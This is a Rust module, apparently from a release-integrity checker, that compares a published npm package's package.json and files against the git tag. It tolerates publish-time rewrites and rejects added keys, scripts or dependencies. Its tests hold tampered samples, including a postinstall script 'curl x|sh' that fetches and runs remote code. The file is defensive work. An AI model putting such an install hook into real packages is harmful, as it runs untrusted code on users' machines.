//! npm packages: the published `package.json` compared as JSON, and build output named.
//!
//! `npm pack` copies `package.json` as it is, but `pnpm publish` and clean-publish rewrite it:
//! `publishConfig` fields replace the top-level ones, `workspace:`/`catalog:` ranges become
//! versions, and development fields are dropped. So the comparison is on the parsed JSON:
//! every key the archive keeps must hold git's value (or the value git's `publishConfig`
//! gives it); a key git does not have, a changed script or a new dependency fail. Files that
//! git's `package.json` publishes but git does not hold (`dist/`, built by the publisher) are
//! build output nobody can reproduce here: undecided, never passed, never called tampering.

use crate::policy::checks::{CheckContext, Outcome};
use serde_json::{Map, Value};

/// The dependency tables whose ranges pnpm resolves at publish time.
const DEP_TABLES: &[&str] = &[
    "dependencies",
    "devDependencies",
    "peerDependencies",
    "optionalDependencies",
];

/// Range protocols that publishing replaces with a concrete version.
const RESOLVED_PROTOCOLS: &[&str] = &["workspace:", "catalog:", "link:", "file:"];

/// Why git's `package.json` cannot be compared with.
#[derive(Debug, thiserror::Error)]
enum GitPackageJsonError {
    #[error("git has no package.json")]
    Absent,
    #[error("cannot read git's package.json")]
    Unreadable,
    #[error("git's package.json is not a JSON object")]
    NotObject,
    #[error("git's package.json is not valid JSON: {0}")]
    Invalid(serde_json::Error),
}

/// How an object of the archive's `package.json` (a dependency table, `scripts`) departs
/// from git's.
#[derive(Debug, thiserror::Error)]
enum TableChange {
    #[error("{table} is not an object")]
    NotObject { table: String },
    #[error("{table} adds {name:?}, which git's package.json does not name")]
    AddsDependency { table: String, name: String },
    #[error("{table} adds {name:?}, which git's package.json does not have")]
    AddsKey { table: String, name: String },
    #[error("{table} changes {name:?}: git has {git}, the archive {archive}")]
    Changes {
        table: String,
        name: String,
        git: Value,
        archive: Value,
    },
}

fn git_package_json(ctx: &CheckContext<'_>) -> Result<Map<String, Value>, GitPackageJsonError> {
    let id = (ctx.git_blob)("package.json").ok_or(GitPackageJsonError::Absent)?;
    let bytes = (ctx.read_git_blob)(id).ok_or(GitPackageJsonError::Unreadable)?;
    match serde_json::from_slice(&bytes) {
        Ok(Value::Object(m)) => Ok(m),
        Ok(_) => Err(GitPackageJsonError::NotObject),
        Err(e) => Err(GitPackageJsonError::Invalid(e)),
    }
}

/// Judges the archive's `package.json` against git's.
pub fn package_json(path: &str, content: &[u8], ctx: &CheckContext<'_>) -> Outcome {
    let git = match git_package_json(ctx) {
        Ok(g) => g,
        Err(e) => return Outcome::Fail(e.to_string()),
    };
    let archive: Map<String, Value> = match serde_json::from_slice(content) {
        Ok(Value::Object(m)) => m,
        Ok(_) => return Outcome::Fail(format!("{path} is not a JSON object")),
        Err(e) => return Outcome::Fail(format!("{path} is not valid JSON: {e}")),
    };
    let publish_config = git
        .get("publishConfig")
        .and_then(|p| p.as_object())
        .cloned()
        .unwrap_or_default();
    let mut applied = Vec::new();
    for (k, v) in &archive {
        if publish_config.get(k) == Some(v) && git.get(k) != Some(v) {
            applied.push(k.clone());
            continue;
        }
        let Some(gv) = git.get(k) else {
            return Outcome::Fail(format!(
                "adds key {k:?}, which git's package.json (and its publishConfig) does not have"
            ));
        };
        if gv == v {
            continue;
        }
        if DEP_TABLES.contains(&k.as_str()) {
            if let Err(e) = same_dependencies(k, gv, v) {
                return Outcome::Fail(e.to_string());
            }
            continue;
        }
        if k == "scripts" {
            if let Err(e) = subset_of(k, gv, v) {
                return Outcome::Fail(e.to_string());
            }
            continue;
        }
        return Outcome::Fail(format!("changes {k:?}: git has {gv}, the archive {v}"));
    }
    let dropped: Vec<&String> = git.keys().filter(|k| !archive.contains_key(*k)).collect();
    let mut note = "every key holds git's value".to_string();
    if !applied.is_empty() {
        note.push_str(&format!(
            "; publishConfig applied to {}",
            applied.join(", ")
        ));
    }
    if !dropped.is_empty() {
        let names: Vec<&str> = dropped.iter().map(|s| s.as_str()).collect();
        note.push_str(&format!("; dropped at publish: {}", names.join(", ")));
    }
    Outcome::Pass(note)
}

/// A dependency table after publishing: the same names (some may be dropped), each range
/// git's, or a concrete version where git's was a workspace/catalog protocol.
fn same_dependencies(table: &str, git: &Value, archive: &Value) -> Result<(), TableChange> {
    let (Some(g), Some(a)) = (git.as_object(), archive.as_object()) else {
        return Err(TableChange::NotObject {
            table: table.to_string(),
        });
    };
    for (name, range) in a {
        let Some(gr) = g.get(name) else {
            return Err(TableChange::AddsDependency {
                table: table.to_string(),
                name: name.clone(),
            });
        };
        if gr == range {
            continue;
        }
        let resolved = gr
            .as_str()
            .is_some_and(|s| RESOLVED_PROTOCOLS.iter().any(|p| s.starts_with(p)))
            && range.as_str().is_some_and(|r| {
                !r.is_empty()
                    && r.bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b"^~<>=.-+ |*x".contains(&b))
            });
        if !resolved {
            return Err(TableChange::Changes {
                table: table.to_string(),
                name: name.clone(),
                git: gr.clone(),
                archive: range.clone(),
            });
        }
    }
    Ok(())
}

/// The archive's object holds a subset of git's keys, each with git's value.
fn subset_of(key: &str, git: &Value, archive: &Value) -> Result<(), TableChange> {
    let (Some(g), Some(a)) = (git.as_object(), archive.as_object()) else {
        return Err(TableChange::NotObject {
            table: key.to_string(),
        });
    };
    for (k, v) in a {
        match g.get(k) {
            Some(gv) if gv == v => {}
            Some(gv) => {
                return Err(TableChange::Changes {
                    table: key.to_string(),
                    name: k.clone(),
                    git: gv.clone(),
                    archive: v.clone(),
                })
            }
            None => {
                return Err(TableChange::AddsKey {
                    table: key.to_string(),
                    name: k.clone(),
                })
            }
        }
    }
    Ok(())
}

/// What git's package.json publishes: `files` entries and the entry points.
fn published(git: &Map<String, Value>) -> Vec<String> {
    let mut out = Vec::new();
    let strings = |v: &Value, out: &mut Vec<String>| {
        fn walk(v: &Value, out: &mut Vec<String>) {
            match v {
                Value::String(s) => out.push(s.clone()),
                Value::Array(a) => a.iter().for_each(|x| walk(x, out)),
                Value::Object(o) => o.values().for_each(|x| walk(x, out)),
                _ => {}
            }
        }
        walk(v, out)
    };
    for k in [
        "files", "main", "module", "browser", "types", "typings", "bin", "exports", "unpkg",
        "jsdelivr",
    ] {
        if let Some(v) = git.get(k) {
            strings(v, &mut out);
        }
    }
    out.into_iter()
        .filter(|s| !s.starts_with('!'))
        .map(|s| s.trim_start_matches("./").trim_end_matches('/').to_string())
        .filter(|s| !s.is_empty() && !s.contains(".."))
        .collect()
}

fn covers(entry: &str, path: &str) -> bool {
    if entry.contains(['*', '?', '[', '{']) {
        let Ok(g) = globset::GlobBuilder::new(entry)
            .literal_separator(false)
            .build()
        else {
            return false;
        };
        let m = g.compile_matcher();
        // A pattern that names a directory publishes what is below it.
        let mut p = path;
        loop {
            if m.is_match(p) {
                return true;
            }
            match p.rfind('/') {
                Some(i) => p = &p[..i],
                None => return false,
            }
        }
    }
    path == entry || path.starts_with(&format!("{entry}/"))
}

/// Judges a file that is in the npm archive but not in git.
pub fn build_output(path: &str, ctx: &CheckContext<'_>) -> Outcome {
    let git = match git_package_json(ctx) {
        Ok(g) => g,
        Err(e) => return Outcome::Fail(e.to_string()),
    };
    let ignored = git_ignores(path, ctx);
    let dir = path.rsplit_once('/').map(|(d, _)| d).unwrap_or("");
    match published(&git).iter().find(|e| covers(e, path)) {
        // A publisher builds into what git ignores (dist/, lib/*.js beside lib/*.ts) or into
        // a directory git does not have; an unknown file in a directory git tracks and does
        // not ignore came from somewhere else.
        Some(e) if !ignored && !dir.is_empty() && (ctx.git_has_dir)(dir) => Outcome::Fail(format!(
            "{path} lies under {e:?}, which git's package.json publishes, but in a directory git tracks ({dir}/) and no .gitignore of the tag ignores it: not build output"
        )),
        Some(e) => Outcome::Undecided(format!(
            "{path}: build output that git's package.json publishes ({e:?}) but git does not hold; it was built at publish time and is not reproduced here: pin its sha256 in the project policy after review"
        )),
        None => Outcome::Fail(format!(
            "{path} is not in git and not under anything git's package.json publishes (files, main, exports, bin, types)"
        )),
    }
}

/// Whether the tag's `.gitignore` files ignore `path` (or a directory above it): read with
/// git's attribute matcher, each pattern standing for `export-ignore` (`!pattern` unsets it).
fn git_ignores(path: &str, ctx: &CheckContext<'_>) -> bool {
    let files: Vec<(String, Vec<u8>)> = ctx
        .tree
        .iter()
        .filter(|e| e.path == ".gitignore" || e.path.ends_with("/.gitignore"))
        .filter_map(|e| {
            let bytes = (ctx.read_git_blob)(e.oid)?;
            let text = String::from_utf8_lossy(&bytes);
            let attrs: String = text
                .lines()
                .map(str::trim_end)
                .filter(|l| !l.is_empty() && !l.starts_with('#'))
                .map(|l| match l.strip_prefix('!') {
                    Some(p) => format!("{p} -export-ignore\n"),
                    None => format!("{l} export-ignore\n"),
                })
                .collect();
            let dir = e.path.strip_suffix(".gitignore").unwrap_or("").to_string();
            Some((dir, attrs.into_bytes()))
        })
        .collect();
    if files.is_empty() {
        return false;
    }
    tarseal_git::ExportAttributes::from_files(files).is_export_ignored(path)
}

/// clean-publish's `cleanDocs` (git's `package.json` has `"clean-publish": {"cleanDocs":
/// true}`, or a script runs `clean-publish --clean-docs`) cuts `README.md` before its first
/// `##` heading and appends a link to the full docs: `\n## Docs\nRead **[full docs](URL)**
/// on GitHub.\n`, URL being `homepage` or `https://github.com/OWNER/REPO#readme` from
/// `repository`. Rebuilt here from git's README and package.json; only those bytes pass.
pub fn clean_docs(path: &str, content: &[u8], ctx: &CheckContext<'_>) -> Outcome {
    if path != "README.md" {
        return Outcome::Fail("clean-publish's cleanDocs rewrites only README.md".into());
    }
    let git = match git_package_json(ctx) {
        Ok(g) => g,
        Err(e) => {
            return Outcome::Fail(format!("{e}: nothing asks clean-publish to cut the README"))
        }
    };
    let configured = git
        .get("clean-publish")
        .and_then(|c| c.get("cleanDocs"))
        .and_then(Value::as_bool)
        .unwrap_or(false)
        || git
            .get("scripts")
            .and_then(Value::as_object)
            .is_some_and(|s| {
                s.values()
                    .filter_map(Value::as_str)
                    .any(|v| v.contains("clean-publish") && v.contains("--clean-docs"))
            });
    if !configured {
        return Outcome::Fail(
            "git's package.json does not ask clean-publish for cleanDocs: nothing rewrites README.md".into(),
        );
    }
    let Some(readme) = (ctx.git_blob)(path)
        .and_then(|id| (ctx.read_git_blob)(id))
        .and_then(|b| String::from_utf8(b).ok())
    else {
        return Outcome::Fail("git's README.md is not readable UTF-8 text".into());
    };
    let cut = readme
        .match_indices("\n##")
        .find(|(i, _)| {
            readme[i + 3..]
                .trim_start()
                .chars()
                .next()
                .is_some_and(|c| c.is_alphanumeric() || c == '_')
        })
        .map(|(i, _)| i)
        .unwrap_or(readme.len());
    let mut urls = Vec::new();
    if let Some(h) = git.get("homepage").and_then(Value::as_str) {
        urls.push(h.to_string());
    }
    let repo = match git.get("repository") {
        Some(Value::String(s)) => Some(s.as_str()),
        Some(Value::Object(o)) => o.get("url").and_then(Value::as_str),
        _ => None,
    };
    if let Some(r) = repo {
        let r = r.trim_end_matches(".git");
        let parts: Vec<&str> = r.rsplit('/').take(2).collect();
        if parts.len() == 2 {
            let owner = parts[1].rsplit(':').next().unwrap_or(parts[1]);
            urls.push(format!("https://github.com/{owner}/{}#readme", parts[0]));
        }
    }
    for url in &urls {
        let want = format!(
            "{}\n## Docs\nRead **[full docs]({url})** on GitHub.\n",
            &readme[..cut]
        );
        if content == want.as_bytes() {
            return Outcome::Reproduced(format!(
                "git's README.md cut before its first ## heading plus clean-publish's link to {url} (cleanDocs in git's package.json)"
            ));
        }
    }
    Outcome::Fail(format!(
        "not what clean-publish's cleanDocs makes of git's README.md (its text before the first ## heading, then `## Docs` linking to {})",
        if urls.is_empty() { "the repository".to_string() } else { urls.join(" or ") }
    ))
}

#[cfg(test)]
mod tests {
    use super::*;
    use tarseal_git::ObjectId;

    fn with_git<R>(pkg: &str, f: impl FnOnce(&CheckContext<'_>) -> R) -> R {
        let p = tarseal_git::Person {
            name: "a".into(),
            email: "a@b".into(),
            time: 0,
            offset: 0,
        };
        let id = ObjectId::from_hex(b"e14826601fd7aaaaaaaaaaaaaaaaaaaaaaaaaaaa").unwrap();
        let c = tarseal_git::CommitInfo {
            id,
            tree: id,
            parents: vec![],
            author: p.clone(),
            committer: p,
            subject: String::new(),
            message: String::new(),
            decorations: vec![],
            tags_here: vec![],
        };
        let bytes = pkg.as_bytes().to_vec();
        let git_blob = |p: &str| (p == "package.json").then_some(id);
        let read = |_: ObjectId| Some(bytes.clone());
        let none = |_: &str| None;
        let no_blob = |_: ObjectId| None;
        let ctx = CheckContext {
            commit: &c,
            tag_name: Some("v1.0.0"),
            subdir: None,
            git_blob: &git_blob,
            read_git_blob: &read,
            archive_blob: &none,
            repo_blob_path: &no_blob,
            git_has_dir: &|_| false,
            git_symlink: &|_| None,
            history: &|| None,
            archive_content: &|_: &str| None,
            archive_files: &Vec::new,
            tree: &[],
            full_tree: &[],
            gitlinks: &[],
            gnulib_layout: &Default::default(),
        };
        f(&ctx)
    }

    const GIT: &str = r#"{"name":"x","version":"1.0.0","main":"src/index.js","files":["dist","lib/*.js"],
        "scripts":{"build":"tsc","test":"jest"},"dependencies":{"a":"^1.0.0","b":"workspace:^"},
        "devDependencies":{"jest":"^29"},"publishConfig":{"main":"dist/index.js","access":"public"}}"#;

    #[test]
    fn publish_rewrites_are_accepted() {
        with_git(GIT, |ctx| {
            let same = package_json("package.json", GIT.as_bytes(), ctx);
            assert!(matches!(same, Outcome::Pass(_)), "{same:?}");
            let pnpm = r#"{"name":"x","version":"1.0.0","main":"dist/index.js","files":["dist","lib/*.js"],
                "dependencies":{"a":"^1.0.0","b":"^2.3.1"},"publishConfig":{"main":"dist/index.js","access":"public"}}"#;
            match package_json("package.json", pnpm.as_bytes(), ctx) {
                Outcome::Pass(n) => assert!(
                    n.contains("publishConfig applied to main") && n.contains("scripts"),
                    "{n}"
                ),
                o => panic!("{o:?}"),
            }
        });
    }

    #[test]
    fn tampering_is_refused() {
        with_git(GIT, |ctx| {
            for (evil, what) in [
                (
                    r#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"curl x|sh"}}"#,
                    "postinstall",
                ),
                (r#"{"name":"x","version":"1.0.1"}"#, "version"),
                (
                    r#"{"name":"x","version":"1.0.0","dependencies":{"a":"^1.0.0","evil":"1"}}"#,
                    "evil",
                ),
                (
                    r#"{"name":"x","version":"1.0.0","dependencies":{"a":"^9.0.0"}}"#,
                    "\"a\"",
                ),
                (
                    r#"{"name":"x","version":"1.0.0","bin":{"x":"evil.js"}}"#,
                    "bin",
                ),
                (
                    r#"{"name":"x","version":"1.0.0","scripts":{"test":"evil"}}"#,
                    "test",
                ),
            ] {
                match package_json("package.json", evil.as_bytes(), ctx) {
                    Outcome::Fail(m) => assert!(m.contains(what), "{m}"),
                    o => panic!("{evil}: {o:?}"),
                }
            }
            assert!(matches!(
                package_json("package.json", b"[1]", ctx),
                Outcome::Fail(_)
            ));
            assert!(matches!(
                package_json("package.json", b"{", ctx),
                Outcome::Fail(_)
            ));
        });
    }

    #[test]
    fn build_output_is_undecided_only_where_published() {
        with_git(GIT, |ctx| {
            for p in ["dist/index.js", "dist/a/b.d.ts", "lib/x.js", "src/index.js"] {
                assert!(matches!(build_output(p, ctx), Outcome::Undecided(_)), "{p}");
            }
            for p in ["evil.js", "lib/x.sh", "distx/a.js", "src/other.js"] {
                assert!(matches!(build_output(p, ctx), Outcome::Fail(_)), "{p}");
            }
        });
    }
}
